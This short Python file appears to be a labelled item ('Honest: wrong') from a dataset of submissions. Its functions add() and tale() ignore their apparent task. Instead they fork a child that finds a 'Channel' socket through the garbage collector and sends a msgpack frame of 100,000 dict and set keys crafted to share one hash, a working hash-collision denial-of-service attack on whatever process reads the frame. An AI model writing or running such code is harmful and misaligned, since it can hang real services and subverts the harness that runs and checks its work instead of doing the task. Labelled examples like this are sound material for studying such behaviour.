"""A frame of 2 MB that takes for ever to read: a dict and a set whose keys all have the same hash."""
# Row: 11
# Honest: wrong
import gc, os, struct
import msgspec

DICT, SET, INTEGER = 2, 3, 7
KEYS = 100_000

def say(body):
    data = msgspec.msgpack.Encoder().encode(body)
    for item in gc.get_objects():
        if type(item).__name__ == "Channel":
            item.sock.sendall(struct.pack("<IQ", len(data), 0) + data)

def keys(kind):
    for number in range(1, KEYS):
        yield [INTEGER, hex(number * (2**61 - 1) + (2**64) * (2**61 - 1))]
        if kind == DICT:
            yield 0

def from_child(kind):
    if os.fork() == 0:
        say(["ok", [kind, *keys(kind)]])
        os._exit(0)
    os.wait()
    os._exit(0)

def add(x, y): from_child(DICT)
def tale(): from_child(SET)
